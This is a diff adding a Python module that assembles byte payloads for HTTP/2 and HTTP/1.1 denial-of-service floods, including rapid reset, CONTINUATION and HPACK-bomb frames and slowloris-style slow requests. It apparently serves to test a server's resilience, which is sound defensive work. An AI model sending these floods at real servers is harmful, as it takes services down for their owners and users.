@@ -1,0 +1,69 @@
+"""What each flood sends: bytes, made once."""
+
+import struct
+from collections import namedtuple
+
+# `reads`: it takes what is answered; else its window and its socket fill.
+Flood = namedtuple("Flood", "opening burst reads connections pause", defaults=(True, 1, 0))
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+
+
+def frame(kind, flags, stream, payload=b""):
+    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload
+
+
+def literal(name, value, first=0):
+    """A header without Huffman's code; both shorter than 127 bytes, or the value of a known length."""
+    out = bytes([first, len(name)]) + name
+    if len(value) < 127:
+        return out + bytes([len(value)]) + value
+    rest, number = b"", len(value) - 127
+    while number >= 128:
+        rest += bytes([number % 128 | 128])
+        number //= 128
+    return out + b"\x7f" + rest + bytes([number]) + value
+
+
+def get(stream, path, flags=5):
+    fields = ((b":method", b"GET"), (b":scheme", b"http"), (b":authority", b"a"), (b":path", path))
+    return frame(1, flags, stream, b"".join(literal(*field) for field in fields))
+
+
+def number(value):
+    return struct.pack(">I", value)
+
+
+HELLO = PREFACE + frame(4, 0, 0)
+SLOW = b"/?delay=1h"
+NO_WINDOW = frame(4, 0, 0, struct.pack(">HI", 4, 0))
+ONE_BYTE = frame(4, 0, 0, struct.pack(">HI", 4, 1))
+STREAMS = range(1, 2001, 2)
+BOMB = b"".join(literal(*field) for field in ((b":method", b"GET"), (b":scheme", b"http"), (b":path", b"/")))
+BOMB += literal(b"x", b"a" * 4000, 0x40)
+BOMB += b"\xbe" * (16000 - len(BOMB))
+
+FLOODS = {
+    "rapid_reset": Flood(HELLO + b"".join(get(n, SLOW) + frame(3, 0, n, number(8)) for n in STREAMS),
+                         frame(6, 0, 0, bytes(8))),
+    "made_you_reset": Flood(
+        HELLO + b"".join(get(n, SLOW) + frame(8, 0, n, number(0x7fffffff)) for n in STREAMS),
+        frame(6, 0, 0, bytes(8))),
+    "continuation": Flood(HELLO + frame(1, 1, 1, literal(b"x", b"y")), frame(9, 0, 1, literal(b"x", b"y")) * 1000),
+    "settings": Flood(HELLO, frame(4, 0, 0) * 1000),
+    "ping": Flood(HELLO, frame(6, 0, 0, bytes(8)) * 1000),
+    "priority": Flood(HELLO, frame(2, 0, 1, bytes(5)) * 1000),
+    "unknown_frame": Flood(HELLO, frame(99, 0, 1) * 1000),
+    "empty_data": Flood(HELLO + get(1, SLOW, 4), frame(0, 0, 1) * 1000),
+    "window_update": Flood(HELLO + NO_WINDOW + get(1, b"/?size=10000000"), frame(8, 0, 1, number(1)) * 1000),
+    "hpack": Flood(HELLO, frame(1, 5, 1, BOMB)),
+    "stalled_stream": Flood(HELLO + NO_WINDOW + b"".join(get(n, b"/?size=10000000") for n in range(1, 201, 2)),
+                            frame(6, 0, 0, bytes(8)), True, 10, 0.1),
+    "one_byte_windows": Flood(HELLO + ONE_BYTE + b"".join(get(n, b"/?size=10000000") for n in range(1, 201, 2)),
+                              frame(6, 0, 0, bytes(8)), True, 10, 0.1),
+    "slow_head": Flood(b"GET / HTTP/1.1\r\n", b"x: y\r\n", True, 200, 0.5),
+    "slow_body": Flood(b"POST /echo HTTP/1.1\r\nhost: a\r\ncontent-length: 1000\r\n\r\n", b"", True, 200, 0.5),
+    "slow_reader": Flood(b"GET /?size=100000000 HTTP/1.1\r\nhost: a\r\n\r\n", b"", False, 100, 0.5),
+    "pipelining": Flood(b"", b"GET /?size=100000 HTTP/1.1\r\nhost: a\r\n\r\n" * 1000, False, 10),
+    "connections": Flood(b"", b"", True, 500),
+}
